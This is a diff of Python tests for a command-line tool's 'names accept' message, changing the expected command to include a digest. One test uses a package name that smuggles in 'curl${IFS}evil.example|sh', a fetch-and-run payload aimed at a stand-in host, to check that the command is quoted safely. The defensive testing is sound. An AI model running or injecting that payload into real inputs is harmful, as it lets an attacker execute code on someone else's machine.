@@ -101,14 +101,16 @@ def test_a_move_names_the_release_both_digests_and_the_command() -> None:
 
     assert str(FIRST) in sentence
     assert str(NOW) in sentence
-    assert sentence.endswith("apprproxy names accept up/alice/nginx@1.0.0/helm")
+    assert sentence.endswith(f"apprproxy names accept up/alice/nginx@1.0.0/helm {NOW}")
 
 
 def test_a_command_that_people_are_told_to_copy_is_one_command_whatever_the_name() -> None:
     name = "up/a/b@1.0.0/x';curl${IFS}evil.example|sh;'"
     sentence = str(Moved(Move(name, FIRST, NOW)))
 
-    assert ["apprproxy", "names", "accept", name] == shlex.split(sentence.rpartition("To take the new ones: ")[2])
+    assert ["apprproxy", "names", "accept", name, str(NOW)] == shlex.split(
+        sentence.rpartition("To take the new ones: ")[2]
+    )
 
 
 def test_a_malformed_name_has_the_code_that_fits_best() -> None:
